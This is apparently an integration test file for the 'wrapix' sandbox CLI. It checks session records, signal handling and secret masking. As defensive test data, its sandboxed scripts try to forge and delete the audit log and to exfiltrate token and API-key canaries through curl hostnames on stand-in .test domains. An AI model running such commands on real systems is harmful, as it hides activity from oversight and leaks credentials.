// Session records through the real `wrapix` CLI (built bin, isolated HOME, real podman): the fields of a
// record after a command edits a git workspace, SIGTERM and SIGKILL mid-session, five sessions at once,
// a sandbox that tries to rewrite its own history, and canary secrets that must never reach `.wrapix/`.
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { existsSync } from 'node:fs'
import { readdir, readFile, rm, stat } from 'node:fs/promises'
import { join } from 'node:path'
import { execa } from 'execa'
import type { SessionRecord } from '../../src/session/record-schema.js'
import { isolatedHome, runWrapix, spawnWrapix, tempProject, type IsolatedHome, type TempProject } from '../helpers/cli.js'
import { BASE_IMAGE, processesOf, sessionRuntimeDir, podmanPs, removeContainersByLabel, requirePodman, waitForNoContainers } from '../helpers/podman.js'
import { RUNNABLE_BOUNDARIES, type RunnableBoundary } from '../helpers/sandbox.js'
import { availableGit, expectDiffStat, gitIn, readRecordFile } from '../helpers/session-record.js'

const podman = await requirePodman()

const flags = (boundary: RunnableBoundary, network = 'limit'): string[] =>
  ['--boundary', boundary, '--image', BASE_IMAGE, '--network', network, '--no-input']

let project: TempProject
let home: IsolatedHome
beforeEach(async () => {
  project = await tempProject({ 'README.md': 'one\ntwo\n', 'src/app.ts': 'export const a = 1\n' })
  home = await isolatedHome()
})
/** Session dirs a SIGKILLed wrapix could not remove (wrapix does not tidy those up yet): root's runtime dir. */
const killedSessions: string[] = []
afterEach(async () => {
  for (const id of killedSessions.splice(0)) await rm(join('/run/wrapix', id), { recursive: true, force: true })
  await removeContainersByLabel({ 'wrapix.workspace': project.dir })
  await project.cleanup()
  await home.cleanup()
})

const git = (...args: string[]) => gitIn(project.dir, ...args)
async function commitAll(): Promise<string> {
  await git('init', '-q', '-b', 'main')
  await git('add', '.')
  await git('commit', '-qm', 'init')
  return (await git('rev-parse', 'HEAD')).stdout
}

const logDir = () => join(project.dir, '.wrapix', 'log')
async function records(): Promise<SessionRecord[]> {
  const names = (await readdir(logDir())).filter((n) => n.endsWith('.json')).sort()
  return names.map((n) => readRecordFile(join(logDir(), n)))
}

/** Every file under `.wrapix/`, recursively, with its text. */
async function wrapixFiles(dir = join(project.dir, '.wrapix')): Promise<{ path: string; text: string }[]> {
  const out: { path: string; text: string }[] = []
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name)
    if (entry.isDirectory()) out.push(...(await wrapixFiles(path)))
    else out.push({ path, text: await readFile(path, 'utf8') })
  }
  return out
}

async function runningSession(timeoutMs = 60_000): Promise<string> {
  const deadline = Date.now() + timeoutMs
  for (;;) {
    const running = (await podmanPs({ 'wrapix.workspace': project.dir })).find((c) => c.state === 'running')
    if (running) return running.labels['wrapix.session']!
    if (Date.now() > deadline) throw new Error(`no running sandbox for ${project.dir}`)
    await new Promise((r) => setTimeout(r, 200))
  }
}

const sessionDir = (sessionId: string): string => sessionRuntimeDir(home, sessionId)

describe.skipIf(!podman).each(RUNNABLE_BOUNDARIES)('session records through the CLI (%s boundary)', (boundary) => {
  it('records exit code, mode, boundary, masked argv, policy digest, network counts and the git diff stat', async () => {
    const head = await commitAll()
    const token = 'tok-canary-value-0001'
    const script = ['echo new > added.txt', "printf 'one\\nTWO\\nthree\\n' > README.md", 'rm src/app.ts', 'curl -s -o /dev/null http://nope.test/', 'exit 3'].join('; ')
    const allow = ['--allow', 'allowed.test']
    const result = await runWrapix(['run', project.dir, ...flags(boundary), ...allow, '-e', `MY_TOKEN=${token}`, '--', 'sh', '-c', script], { home, timeoutMs: 90_000 })
    expect(result.exitCode, result.stderr).toBe(3)

    const [record, ...more] = await records()
    expect(more).toEqual([])
    expect(record).toMatchObject({
      exitCode: 3,
      exitStatus: 'exited',
      mode: 'command',
      boundary,
      runtime: boundary === 'gvisor' ? 'runsc' : 'crun',
      image: { ref: BASE_IMAGE },
      network: { allowed: 0, denied: 1, deniedHosts: [{ host: 'nope.test', port: 80, count: 1 }] },
      host: { finalizedBy: 'session' },
    })
    expect(record!.durationMs).toBeGreaterThan(0)
    // The secret travels by name only; its value is in no argument.
    const argv = record!.argv
    expect(argv[argv.indexOf('MY_TOKEN') - 1]).toBe('--env')
    expect(argv.join(' ')).not.toContain(token)
    expect(argv.slice(-3)).toEqual(['sh', '-c', script])
    // The digest is the effective policy's, as `wrapix policy check` computes it for the same flags.
    const check = await runWrapix(['policy', 'check', 'allowed.test', ...allow, '--json'], { home, cwd: project.dir })
    expect(record!.policy).toEqual({ mode: 'limit', digest: JSON.parse(check.stdout).policyDigest })

    const gitRecord = availableGit(record!)
    expect(gitRecord).toMatchObject({ before: { head, branch: 'main', dirty: false }, after: { head, branch: 'main', dirty: true } })
    expectDiffStat(gitRecord, [
      { path: 'README.md', insertions: 2, deletions: 1 },
      { path: 'added.txt', insertions: 1, deletions: 0 },
      { path: 'src/app.ts', insertions: 0, deletions: 1 },
    ])
    // Files the sandbox wrote belong to the invoking user on the host.
    expect((await stat(join(project.dir, 'added.txt'))).uid).toBe(process.getuid!())
  })

  it('the sandbox cannot modify or delete .wrapix/log', async () => {
    await runWrapix(['run', project.dir, ...flags(boundary, 'none'), '--', 'true'], { home, timeoutMs: 90_000 })
    const before = await wrapixFiles()
    expect(before.length).toBeGreaterThan(0)
    // The name comes from the host: coreutils' statx fails on every path under gVisor 20221219 (EINVAL), so
    // `ls *.json` inside would find nothing and `rm -f ""` would "succeed" without trying.
    const name = (await readdir(logDir())).find((n) => n.endsWith('.json') && !n.endsWith('.network.jsonl'))!
    const script = [
      'cd /workspace/.wrapix/log',
      `f=${name}`,
      'test -r "$f"; echo "readable=$?"',
      'echo forged > /workspace/.wrapix/log/forged.json; echo "create=$?"',
      'echo x >> "$f"; echo "append=$?"',
      'rm -f "$f"; echo "delete=$?"',
      'mv "$f" moved.json; echo "rename=$?"',
      'mv /workspace/.wrapix /workspace/wrapix-moved; echo "movedir=$?"',
      'mkdir -p .journal && echo "{}" > .journal/fake.json; echo "journal=$?"',
    ].join('\n')
    const result = await runWrapix(['run', project.dir, ...flags(boundary, 'none'), '--', 'sh', '-c', script], { home, timeoutMs: 90_000 })
    const codes = Object.fromEntries(result.stdout.split('\n').filter((l) => l.includes('=')).map((l) => l.split('=')))
    expect(codes).toEqual({ readable: '0', create: '2', append: '2', delete: '1', rename: '1', movedir: '1', journal: '2' })
    // Every earlier file is unchanged; the only new files are this session's own record.
    const after = await wrapixFiles()
    for (const file of before) expect(after).toContainEqual(file)
    expect(after.map((f) => f.path).filter((p) => p.includes('forged') || p.includes('fake'))).toEqual([])
    expect(existsSync(join(project.dir, 'wrapix-moved'))).toBe(false)
    expect(await records()).toHaveLength(2)
  })

  it('SIGTERM mid-session still writes a record and leaves no container, proxy socket or process behind', async () => {
    const wrapix = spawnWrapix(['run', project.dir, ...flags(boundary), '--', 'sleep', '300'], { home, timeoutMs: 90_000 })
    const sessionId = await runningSession()
    expect(existsSync(join(sessionDir(sessionId), 'net', 'proxy.sock'))).toBe(true)
    wrapix.kill('SIGTERM')
    const result = await wrapix
    expect(result.exitCode, String(result.stderr)).not.toBe(0)

    const [record] = await records()
    // The command died of the SIGTERM wrapix passed on; the record says so.
    expect(record).toMatchObject({ id: sessionId, exitStatus: 'signal', interruption: { cause: 'signal', signal: 'SIGTERM' }, host: { finalizedBy: 'session' } })
    expect(record!.exitCode).not.toBe(0)
    expect(record!.exitCode).not.toBeNull()
    expect(await waitForNoContainers({ 'wrapix.workspace': project.dir }, 15_000)).toEqual([])
    expect(await processesOf(sessionId)).toEqual([])
    expect(existsSync(sessionDir(sessionId))).toBe(false)
  })

  it('SIGKILL: the sandbox stops, and the next run finalizes the record and removes the stale session directory', async () => {
    const wrapix = spawnWrapix(['run', project.dir, ...flags(boundary), '--', 'sleep', '300'], { home, timeoutMs: 90_000 })
    const sessionId = await runningSession()
    killedSessions.push(sessionId)
    wrapix.kill('SIGKILL')
    expect((await wrapix).signal).toBe('SIGKILL')
    expect(await waitForNoContainers({ 'wrapix.workspace': project.dir }, 20_000)).toEqual([])
    expect(await records()).toEqual([]) // nobody could write it yet

    const next = await runWrapix(['run', project.dir, ...flags(boundary), '--', 'true'], { home, timeoutMs: 90_000 })
    expect(next.exitCode, next.stderr).toBe(0)
    const killed = (await records()).find((r) => r.id === sessionId)
    expect(killed).toMatchObject({ exitCode: null, exitStatus: 'unknown', host: { finalizedBy: 'recovery' }, interruption: { cause: 'wrapix-died' }, policy: { mode: 'limit' } })
    expect(await records()).toHaveLength(2)
    expect(existsSync(sessionDir(sessionId))).toBe(false)
    expect(await processesOf(sessionId)).toEqual([])
  })
})

describe.skipIf(!podman)('concurrent sessions through the CLI', () => {
  it('five sessions at once leave five distinct records, each with its own policy and decisions', async () => {
    const runs = [0, 1, 2, 3, 4].map((i) =>
      runWrapix(['run', project.dir, ...flags('container'), '--allow', `s${i}.test:80`, '--',
        'sh', '-c', `curl -s -o /dev/null http://s${(i + 1) % 5}.test/`], { home, timeoutMs: 120_000 }))
    const results = await Promise.all(runs)
    for (const r of results) expect(r.exitCode, r.stderr).toBe(0)
    const all = await records()
    expect(new Set(all.map((r) => r.id)).size).toBe(5)
    expect(new Set(all.map((r) => r.policy.digest)).size).toBe(5)
    // Each session asked for its neighbour's name, which only the neighbour's policy allows.
    const asked = all.map((r) => /(s\d\.test)/.exec(r.argv.at(-1)!)![1])
    expect(new Set(asked).size).toBe(5)
    all.forEach((r, i) => expect(r.network).toMatchObject({ allowed: 0, denied: 1, deniedHosts: [{ host: asked[i], port: 80 }] }))
    const logs = (await readdir(logDir())).filter((n) => n.endsWith('.network.jsonl'))
    expect(logs).toHaveLength(5)
  })
})

describe.skipIf(!podman)('canary secrets through the CLI', () => {
  const flagCanary = 'canary-from-e-flag-7h2m'
  const envCanary = `sk-ant-api03-canary${'k'.repeat(38)}-q9zx` // one DNS label (63 at most)
  const masked = (secret: string) => `••••${secret.slice(-4)}`

  it('never appear unmasked under .wrapix/, nor in --dry-run or --verbose output', async () => {
    await commitAll()
    const env = { ANTHROPIC_API_KEY: envCanary }
    // The sandbox hands both secrets to wrapix's host side: as names it asks the proxy for and as a file name.
    const script = [
      'curl -s -o /dev/null "http://$MY_TOKEN.test/"',
      'curl -s -o /dev/null "https://$ANTHROPIC_API_KEY.test/"',
      'touch "/workspace/$MY_TOKEN.txt" "/workspace/$ANTHROPIC_API_KEY.txt"',
    ].join('; ')
    const args = ['run', project.dir, ...flags('container'), '-e', `MY_TOKEN=${flagCanary}`, '--verbose', '--', 'sh', '-c', script]
    const run = await runWrapix(args, { home, env, timeoutMs: 90_000 })
    expect(run.exitCode, run.stderr).toBe(0)
    expect(existsSync(join(project.dir, `${flagCanary}.txt`))).toBe(true) // the secrets did reach the sandbox

    const files = await wrapixFiles()
    expect(files.length).toBeGreaterThanOrEqual(2)
    for (const { path, text } of files) {
      expect(text.toLowerCase(), path).not.toContain(flagCanary)
      expect(text.toLowerCase(), path).not.toContain(envCanary.toLowerCase())
    }
    const all = files.map((f) => f.text).join('\n')
    expect(all).toContain(masked(flagCanary)) // proof the record saw it: masked, not missing
    // The agent credential never reached the sandbox: what it sent out was the placeholder, refused as a leak.
    expect(all).toContain('wrapix-placeholder-anthropic-api-key-')
    expect(all).toContain('"credentialLeaks"')

    const dry = await runWrapix([...args.slice(0, -4), '--dry-run', '--', 'true'], { home, env })
    const dryJson = await runWrapix(['--json', ...args.slice(0, -4), '--dry-run', '--', 'true'], { home, env })
    for (const out of [run, dry, dryJson]) {
      for (const text of [out.stdout, out.stderr]) {
        expect(text).not.toContain(flagCanary)
        expect(text.toLowerCase()).not.toContain(envCanary.toLowerCase())
      }
    }
    expect(dry.exitCode, dry.stderr).toBe(0)
    expect(dryJson.exitCode, dryJson.stderr).toBe(0)
  })
})
